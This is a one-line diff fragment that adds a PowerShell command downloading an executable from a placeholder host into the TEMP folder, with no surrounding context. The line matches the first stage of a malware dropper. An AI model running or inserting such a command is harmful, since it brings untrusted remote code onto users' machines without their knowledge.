@@ -1,0 +1,1 @@
+iwr -Uri "http://a.example/x" -OutFile $env:TEMP\x.exe -UseBasicParsing
